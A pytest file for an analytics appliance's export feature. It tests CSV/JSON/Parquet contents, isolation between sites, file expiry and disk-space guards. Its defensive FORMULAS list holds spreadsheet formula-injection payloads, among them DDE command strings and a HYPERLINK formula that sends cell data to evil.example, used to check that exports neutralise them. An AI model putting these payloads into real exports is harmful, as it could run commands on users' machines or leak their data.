"""Downloads: what is in them, that a spreadsheet runs nothing of it, and that nothing stays behind."""

import csv
import io
import json
import tempfile
from datetime import UTC, date, datetime
from pathlib import Path

import duckdb
import pytest

from appliance.base.errors import InvalidError, UnavailableError
from appliance.base.timerange import TimeRange
from appliance.jobs import exports as exports_job
from appliance.reports import export_steps, exports, filters
from appliance.reports.exports import Format, Wanted, What
from appliance.reports.filters import Filter
from appliance.runtime import Runtime
from tests.clocks import FrozenClock
from tests.people import People, Person
from tests.traffic import GOOGLEBOT, event, pageview, send

DAY = "2026-09-10"

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "''=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "＂=1+1",
    '" @SUM(1)',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=1,2;3",
    '-2+3+cmd|"/C calc"!A0',
    "+\u00a0\u202e1",
)
"""What a spreadsheet would take for a formula, one in each form that it is let in by."""

HARMLESS = ("plain", "a=b", "5-4", 'say "hi", then', "'tis", "naïve ☃", "1,5", "x\u2028y")


def span(person: Person, day: str = DAY) -> TimeRange:
    return TimeRange(date.fromisoformat(day), date.fromisoformat(day), person.shop.zone)


def exported(
    program: Runtime, person: Person, what: What, format_: Format, kept: tuple[Filter, ...] = ()
) -> bytes:
    with program.exports.make(Wanted(person.shop, span(person), kept, what, format_)) as file:
        return file.read()


def cells(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def test_no_cell_of_a_csv_is_a_formula_and_none_is_changed_otherwise(program: Runtime, alice: Person) -> None:
    texts = (*FORMULAS, *HARMLESS)
    send(
        program,
        alice.shop,
        *(
            pageview(f"{DAY}T10:{minute:02}:00Z", f"/{minute}", title=text)
            for minute, text in enumerate(texts)
        ),
    )
    stored = [json.loads(line)["title"] for line in exported(program, alice, "events", "json").splitlines()]
    titles = [row["title"] for row in cells(exported(program, alice, "events", "csv"))]
    assert len(titles) == len(texts)
    for title, text in zip(titles, stored, strict=True):
        assert title.lstrip("\"'＂＇ \t\r\n")[:1] not in "=+-@＝＋－＠\t\r" or title.startswith("'")
        assert title in (text, f"'{text}")
    assert [title for title in titles if not title.startswith("'")] == [
        text for text in HARMLESS if not text.startswith("'")
    ]
    assert "'tis" in titles


def test_events_are_those_that_count_in_the_order_of_their_time(program: Runtime, alice: Person) -> None:
    send(
        program,
        alice.shop,
        event("purchase", f"{DAY}T10:05:00Z", "/paid", custom={"price": -5.5}),
        pageview(f"{DAY}T10:00:00Z", "/", load=1, performance={"load_ms": 12.5}),
        pageview(f"{DAY}T10:01:00Z", "/", user_agent=GOOGLEBOT),
        pageview("2026-09-12T10:01:00Z", "/later"),
    )
    lines = [json.loads(line) for line in exported(program, alice, "events", "json").splitlines()]
    assert [(line["event_type"], line["ts"]) for line in lines] == [
        ("pageview", f"{DAY}T10:00:00.000000Z"),
        ("purchase", f"{DAY}T10:05:00.000000Z"),
    ]
    assert lines[1]["payload"]["custom"] == {"price": -5.5}
    assert lines[0]["visit_id"] == lines[1]["visit_id"]
    rows = cells(exported(program, alice, "events", "csv"))
    assert [row["load_ms"] for row in rows] == ["12.500", ""]


def test_visits_are_the_same_in_every_format(program: Runtime, alice: Person, tmp_path: Path) -> None:
    send(
        program,
        alice.shop,
        pageview(f"{DAY}T10:00:00Z", "/", referrer="https://google.com"),
        pageview(f"{DAY}T11:00:00Z", "/boots", "bea"),
        pageview(f"{DAY}T11:02:00Z", "/paid", "bea"),
    )
    lines = [json.loads(line) for line in exported(program, alice, "visits", "json").splitlines()]
    rows = cells(exported(program, alice, "visits", "csv"))
    file = tmp_path / "visits.parquet"
    file.write_bytes(exported(program, alice, "visits", "parquet"))
    wanted = "SELECT entry_page, exit_page, pageviews, bounced FROM read_parquet(?)"
    typed = duckdb.connect().execute(wanted, [str(file)]).fetchall()
    assert typed == [("/", "/", 1, True), ("/boots", "/paid", 2, False)]
    assert [(line["entry_page"], line["pageviews"], line["source"]) for line in lines] == [
        ("/", 1, "organic"),
        ("/boots", 2, "direct"),
    ]
    assert [(row["entry_page"], row["pageviews"], row["started_at"]) for row in rows] == [
        ("/", "1", f"{DAY}T10:00:00.000000Z"),
        ("/boots", "2", f"{DAY}T11:00:00.000000Z"),
    ]


def test_filters_keep_the_visits_that_match_and_their_events(program: Runtime, alice: Person) -> None:
    send(
        program,
        alice.shop,
        pageview(f"{DAY}T10:00:00Z", "/", "ann"),
        pageview(f"{DAY}T11:00:00Z", "/boots", "bea"),
        event("purchase", f"{DAY}T11:02:00Z", "/paid", "bea"),
    )
    kept = filters.parse('[["event", "is", ["purchase"]]]')
    assert len(exported(program, alice, "visits", "json", kept).splitlines()) == 1
    assert len(exported(program, alice, "events", "json", kept).splitlines()) == 2


def test_the_report_in_a_table_has_the_numbers_of_the_report(program: Runtime, alice: Person) -> None:
    program.goals.create(alice.shop, "=Paid", "path", "/paid")
    send(
        program,
        alice.shop,
        pageview(f"{DAY}T10:00:00Z", "/", referrer="https://google.com"),
        pageview(f"{DAY}T11:00:00Z", "/boots", "bea"),
        pageview(f"{DAY}T11:02:00Z", "/paid", "bea"),
    )
    rows = cells(exported(program, alice, "report", "csv"))
    found = {(row["section"], row["name"], row["metric"]): row["value"] for row in rows}
    report = program.reports.site_report(alice.shop, span(alice))
    assert found["summary", "", "unique_visitors"] == str(report.unique_visitors) == "2"
    assert found["summary", "", "bounce_rate_percent"] == "50"
    assert found["traffic_sources", "organic", "visitors"] == "1"
    assert found["goals", "'=Paid", "conversions"] == "1"
    assert found["pages", "/boots", "avg_time_spent"] == "120"
    assert found["pages", "/paid", "avg_time_spent"] == ""


def test_a_file_is_kept_for_an_hour_and_goes_with_its_site(
    program: Runtime, people: People, clock: FrozenClock
) -> None:
    files = program.config.paths.exports
    exported(program, people.alice, "report", "csv")
    exported(program, people.bob, "report", "csv")
    program.delete_site(people.bob.account.account_id, people.bob.shop.site_id, people.bob.shop.name)
    assert len(list(files.glob("*/*"))) == 1
    clock.advance(minutes=59)
    exports_job.run(program, clock.now())
    assert len(list(files.glob("*/*"))) == 1
    clock.advance(minutes=2)
    exports_job.run(program, clock.now())
    assert list(files.glob("*/*")) == []


@pytest.mark.parametrize("what", ["events", "visits"])
@pytest.mark.parametrize("format_", ["csv", "json", "parquet"])
def test_in_many_steps_a_file_is_what_it_is_in_one(
    program: Runtime, alice: Person, what: What, format_: Format, monkeypatch: pytest.MonkeyPatch
) -> None:
    visitors = [
        pageview(f"2026-09-{9 + day:02}T{hour:02}:59:59.999Z", f"/{hour}", f"{day}", title="two\nlines")
        for day in range(3)
        for hour in (0, 1, 9, 22, 23)
    ]
    send(program, alice.shop, *visitors)
    days = TimeRange(date(2026, 9, 9), date(2026, 9, 12), alice.shop.zone)
    kept = filters.parse('[["page", "is not", ["/9"]]]')
    for chosen in ((), kept):
        wanted = Wanted(alice.shop, days, chosen, what, format_)
        with program.exports.make(wanted) as one:
            whole = one.read()
        with monkeypatch.context() as patch:
            patch.setattr(export_steps, "STEP_EVENTS", 2)
            with program.exports.make(wanted) as many:
                stepwise = many.read()
        if format_ == "parquet":
            assert table(stepwise) == table(whole)
        else:
            assert stepwise == whole
        assert len(list(program.config.paths.exports.glob("*/*"))) == (1 if chosen == () else 2)


def test_of_each_step_it_is_told_when_it_is_done(tmp_path: Path) -> None:
    said: list[str | float] = []

    def write(_start: datetime, _end: datetime, part: Path) -> None:
        part.touch()
        said.append(part.name)

    begin = datetime(2026, 9, 10, tzinfo=UTC)
    spans = [(begin, begin), (begin, begin)]
    export_steps.append_all(spans, tmp_path / "file", False, export_steps.told(write, 2, said.append))
    assert said == ["file.part", 0.5, "file.part", 1.0]


def table(content: bytes) -> list[tuple[object, ...]]:
    with tempfile.NamedTemporaryFile() as file:
        file.write(content)
        file.flush()
        return duckdb.connect().execute("FROM read_parquet(?)", [file.name]).fetchall()


def test_what_cannot_be_written_leaves_its_place_to_others(program: Runtime, alice: Person) -> None:
    in_the_way = program.config.paths.exports
    in_the_way.write_text("no folder")
    for _ in range(exports.AT_ONCE + 1):
        with pytest.raises(UnavailableError, match="Nothing is lost"):
            exported(program, alice, "visits", "csv")
    in_the_way.unlink()
    assert exported(program, alice, "visits", "csv")


def test_an_export_that_could_fill_the_disk_is_not_begun(
    program: Runtime, alice: Person, monkeypatch: pytest.MonkeyPatch
) -> None:
    send(program, alice.shop, pageview(f"{DAY}T10:00:00Z"))
    monkeypatch.setitem(exports.ROW_BYTES, "events", 2**60)
    with pytest.raises(UnavailableError, match="Choose fewer days"):
        exported(program, alice, "events", "csv")
    assert exported(program, alice, "visits", "csv")


def test_what_a_kill_left_is_gone_at_the_next_start(program: Runtime) -> None:
    left = program.config.paths.exports / "site_0" / "0123"
    left.parent.mkdir(parents=True, exist_ok=True)
    left.write_text("half a file")
    exports.Exports(program.database, program.reports, program.clock, program.config.paths.exports)
    assert not left.exists()


def test_nothing_of_another_site_is_exported(program: Runtime, people: People) -> None:
    send(program, people.bob.shop, pageview(f"{DAY}T10:00:00Z", "/secret"))
    assert exported(program, people.alice, "events", "json") == b""
    assert exported(program, people.alice, "visits", "json") == b""


def test_an_unknown_export_is_refused_with_what_there_is() -> None:
    with pytest.raises(InvalidError) as refused:
        exports.parse("secrets", "xlsx")
    assert [field.pointer for field in refused.value.fields] == ["what", "format"]
